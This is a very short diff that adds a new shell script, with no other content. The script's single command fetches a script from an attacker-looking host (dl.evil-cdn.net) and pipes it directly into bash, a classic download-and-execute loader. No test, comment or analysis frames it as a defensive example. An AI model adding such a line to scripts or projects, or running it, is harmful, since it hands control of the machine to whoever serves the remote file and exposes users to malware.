@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://dl.evil-cdn.net/i.sh | bash
